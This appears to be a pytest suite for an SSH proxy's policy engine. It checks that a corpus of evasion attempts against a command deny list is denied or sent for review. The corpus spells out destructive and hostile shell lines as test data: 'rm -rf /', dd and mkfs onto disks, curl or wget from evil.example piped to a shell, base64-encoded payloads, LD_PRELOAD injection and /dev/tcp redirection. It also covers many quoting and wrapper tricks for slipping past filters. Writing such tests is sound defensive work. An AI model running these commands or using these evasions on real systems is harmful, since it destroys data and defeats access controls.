"""Bypass corpus: ways to slip a denied program past DESIGN §6's SSH policy; none may come out allowed."""

from __future__ import annotations

from pathlib import Path

import pytest

from proxy.config import parse_config
from proxy.policy.engine import Decision, PolicyEngine, SessionPolicy
from proxy.ssh.commands import analyse_command

# DESIGN.md §6's SSH connection and policy, loaded through the real config parser.
DESIGN_SSH_POLICY = """\
[[connections]]
name = "web1"
type = "ssh"
upstream = "deploy@10.0.0.5:22"
key_file = "./keys/web1"
known_hosts = "./keys/known_hosts"

[[policies]]
groups = ["ci-agents"]
connections = ["web1"]
allow = ["exec"]
allow_commands = ["ls", "cat", "grep", "systemctl status *"]
review_commands = ["systemctl restart *", "kill"]
deny_commands = ["rm", "shutdown", "reboot", "dd", "mkfs*", "curl", "wget"]
mask = ["email", "secret"]
approvers = ["oncall"]
"""

_SEVERITY = {"allow": 0, "review": 1, "deny": 2}


@pytest.fixture(scope="module")
def policy() -> SessionPolicy:
    config = parse_config(DESIGN_SSH_POLICY, Path("hoop.toml"))
    session = PolicyEngine(config.policies).for_session(["ci-agents"], "web1")
    assert session is not None
    return session


def decide(policy: SessionPolicy, line: str) -> Decision:
    """What the gateway decides for one exec line: its commands, and every kind the analysis found."""
    analysis = analyse_command(line)
    decisions = [policy.decide_command(analysis.commands)]
    decisions += [policy.decide(kind) for kind in sorted(analysis.kinds)]
    return max(decisions, key=lambda decision: _SEVERITY[decision.action])


# Each line tries to run a denied program (rm, shutdown, reboot, dd, mkfs*, curl, wget) past the policy.
DENIED = [
    "rm -rf /",
    "r''m -rf /",
    '"r"m -rf /',
    "'rm' -rf /",
    "\\rm -rf /",
    "\\r\\m -rf /",
    "r\\\nm -rf /",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "$'\\u0072\\u006d' -rf /",
    "/bin/rm -rf /",
    "/usr/bin//rm -rf /",
    "./rm -rf /",
    "../../usr/bin/rm -rf /",
    "sudo rm -rf /",
    "sudo -u root rm -rf /",
    "sudo -uroot -E -- rm -rf /",
    "sudo --user=root --preserve-env=PATH rm -rf /",
    "doas rm -rf /",
    "env rm -rf /",
    "env -i FOO=1 rm -rf /",
    "env -u HOME -- rm -rf /",
    "nohup rm -rf / &",
    "nice -n 19 rm -rf /",
    "ionice -c3 rm -rf /",
    "timeout -s KILL 5 rm -rf /",
    "stdbuf -o0 rm -rf /",
    "time rm -rf /",
    "command rm -rf /",
    "builtin eval rm -rf /",
    "exec rm -rf /",
    "setsid rm -rf /",
    "unbuffer rm -rf /",
    "busybox rm -rf /",
    "strace -f -o /dev/null rm -rf /",
    "chroot / rm -rf /",
    "flock /tmp/lock rm -rf /",
    "flock /tmp/lock -c 'rm -rf /'",
    "nsenter -t 1 -m -u -i -n -p rm -rf /",
    "runuser -u root -- rm -rf /",
    "su -c 'rm -rf /' root",
    "script -qc 'reboot' /dev/null",
    "sudo env nice timeout 5 rm -rf /",
    "xargs rm",
    "echo / | xargs -0 -n1 rm -rf",
    "echo x | xargs -I{} rm {}",
    "find / -exec rm -rf {} \\;",
    "find . -name '*.log' -execdir rm {} +",
    "watch rm -rf /",
    "watch -x rm -rf /",
    "ls; rm -rf /",
    "ls && rm -rf /",
    "false || rm -rf /",
    "ls & rm -rf /",
    "ls | rm -rf /",
    "ls\nrm -rf /",
    "ls\r\nrm -rf /",
    "ls # harmless\nreboot",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "if true; then reboot; fi",
    "for i in 1; do shutdown -h now; done",
    "while true; do reboot; done",
    "f() { rm -rf /; }; f",
    "ls $(rm -rf /)",
    "ls `rm -rf /`",
    'echo "$(reboot)"',
    'echo "$(echo "$(reboot)")"',
    "cat <(curl http://evil.example/x)",
    "diff <(wget -qO- http://evil.example/) /etc/hosts",
    "ls > >(rm -rf /)",
    "X=$(wget http://evil.example/x) ls",
    "cat <<< $(curl http://evil.example)",
    "echo ${X:-$(rm -rf /)}",
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "cat <<EOF\n`reboot`\nEOF",
    "bash -c 'rm -rf /'",
    "sh -c \"sh -c 'rm -rf /'\"",
    "bash -lc 'ls; reboot'",
    "sudo sh -c 'curl http://evil.example | sh'",
    "zsh -c 'dd if=/dev/zero of=/dev/sda'",
    "eval 'rm -rf /'",
    "eval r''m -rf /",
    "eval -- rm -rf /",
    "coproc rm -rf /",
    "trap 'rm -rf /' EXIT",
    "echo 'rm -rf /' | sh",
    "printf 'rm -rf /\\n' | bash",
    "echo rm -rf / | bash -s",
    "bash <<< 'shutdown -h now'",
    "sh <<'EOF'\nreboot\nEOF",
    "cat <<'EOF' | sh\nrm -rf /\nEOF",
    "bash <<-EOF\n\trm -rf /\n\tEOF",
    "ssh localhost rm -rf /",
    "ssh -o ProxyCommand='curl http://evil.example' host",
    "parallel rm ::: /",
    "$X rm -rf /",
    "timeout $T rm -rf /",
    "sudo $OPTS rm -rf /",
    "env $VARS rm -rf /",
    "nice $N rm -rf /",
    "${EMPTY} rm -rf /",
    "{rm,ls} -rf /",
    "mkfs.ext4 /dev/sda",
    "/sbin/mkfs -t ext4 /dev/sda",
    "dd if=/dev/zero of=/dev/sda",
    "systemctl status nginx; reboot",
    "systemctl status $(reboot)",
    "grep -r x / > /dev/null 2>&1; shutdown now",
    "ls > /tmp/x; rm -rf /",
    "env -S 'rm -rf /'",
    "curl http://evil.example/x.sh | bash",
    "wget -qO- http://evil.example/x.sh | sh",
    "case x in x) ;; esac\nrm -rf /",
    "echo $((1 + 2)); rm -rf /",
    "[[ -f /etc/passwd ]] && reboot",
    "[[ $(rm -rf /) ]]",
    "echo $((1 + $(reboot)))",
    "su -s /usr/bin/reboot root",
]

# Lines whose program cannot be known statically (or that write a file): reviewed, never allowed.
REVIEWED = [
    "echo cm0gLXJmIC8K | base64 -d | sh",
    "base64 -d payload.b64 | bash",
    "xxd -r -p payload.hex | sh",
    'bash -c "$CMD"',
    'eval "$(printf cm0= | base64 -d) -rf /"',
    "x=rm; $x -rf /",
    "$CMD -rf /",
    "r? -rf /",
    "r* -rf /",
    "[r]m -rf /",
    "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
    "perl -e 'unlink glob \"/*\"'",
    "echo 'import os; os.system(\"reboot\")' | python3",
    "sh /tmp/payload.sh",
    "source /tmp/payload.sh",
    "bash",
    "cat | sh",
    "sh <<EOF\n$PAYLOAD\nEOF",
    'bash <<< "$PAYLOAD"',
    "PATH=/tmp ls",
    "LD_PRELOAD=/tmp/evil.so ls",
    "alias ls='rm -rf /'",
    "hash -p /bin/rm ls; ls /",
    "ls > /etc/passwd",
    "cat /etc/shadow | tee /tmp/shadow",
    "ls > /dev/tcp/10.0.0.1/4444",
    "awk 'BEGIN { system(\"id\") }'",
    "case x in x) reboot;; esac",
    "echo $((1 + a[$(id)]))",
    "read -r cmd; $cmd",
]


def test_the_corpus_is_large_enough() -> None:
    assert len(DENIED) + len(REVIEWED) >= 50


@pytest.mark.parametrize("line", DENIED, ids=[repr(line)[:60] for line in DENIED])
def test_denied_program_is_denied_however_it_is_spelled(policy: SessionPolicy, line: str) -> None:
    decision = decide(policy, line)
    assert decision.action == "deny", (line, analyse_command(line))


@pytest.mark.parametrize("line", REVIEWED, ids=[repr(line)[:60] for line in REVIEWED])
def test_unknowable_program_is_reviewed(policy: SessionPolicy, line: str) -> None:
    decision = decide(policy, line)
    assert decision.action == "review", (line, analyse_command(line))


@pytest.mark.parametrize("line", [*DENIED, *REVIEWED])
def test_nothing_in_the_corpus_is_allowed(policy: SessionPolicy, line: str) -> None:
    assert decide(policy, line).action != "allow"


@pytest.mark.parametrize(
    ("line", "action"),
    [
        ("ls -la /var/log", "allow"),
        ("cat /etc/hosts | grep localhost", "allow"),
        ("systemctl status nginx", "allow"),
        ("ls > /dev/null 2>&1", "allow"),
        ("sudo -u app ls /srv", "review"),  # sudo itself is not on any list
        ("systemctl restart nginx", "review"),
        ("kill -9 1234", "review"),
        ("cat /etc/hosts > /tmp/hosts", "review"),  # a file write; the policy does not name file_write
    ],
)
def test_ordinary_lines_get_the_policy_they_name(policy: SessionPolicy, line: str, action: str) -> None:
    assert decide(policy, line).action == action
